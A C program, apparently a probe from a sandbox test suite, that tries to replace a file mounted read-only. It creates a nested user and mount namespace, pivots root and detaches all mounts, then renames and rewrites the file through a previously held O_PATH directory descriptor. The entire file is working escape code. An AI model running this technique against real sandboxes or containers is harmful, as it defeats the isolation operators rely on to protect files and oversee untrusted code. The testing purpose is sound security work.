/*
 * Replace a file that is mounted read-only, from a nested user namespace.
 *
 * The folder is held by an O_PATH descriptor. In the new mount namespace everything is unmounted
 * at once (one by one is refused), so no mount point is in the way any more when the protected
 * name is renamed through the descriptor: it is still the writable mount of outside.
 */
#include "attack.h"
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>

/* Root without capabilities may not map itself; the new namespace has its capabilities anyway. */
static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    ssize_t ignored = write(fd, text, strlen(text));
    (void)ignored;
    close(fd);
}

int main(int argc, char **argv)
{
    const char *folder = argv[1], *name = argv[2], *spare = argv[3];
    char map[64];
    int uid = (int)geteuid(), gid = (int)getegid();
    int held = open(folder, O_PATH | O_DIRECTORY);
    if (argc != 4 || held < 0)
        return 1;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        blocked("unshare");
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %d 1", uid);
    put("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %d 1", gid);
    put("/proc/self/gid_map", map);
    if (mount("none", spare, "tmpfs", 0, NULL) != 0)
        blocked("mount");
    /* The old root ends up on top of the new one, at the same place. */
    if (chdir(spare) != 0 || syscall(SYS_pivot_root, ".", ".") != 0)
        blocked("pivot_root");
    if (umount2(".", MNT_DETACH) != 0)
        blocked("umount2");
    if (renameat(held, name, held, "away") != 0)
        blocked("renameat");
    int fd = openat(held, name, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd < 0 || write(fd, "changed", 7) != 7)
        blocked("openat");
    worked();
}
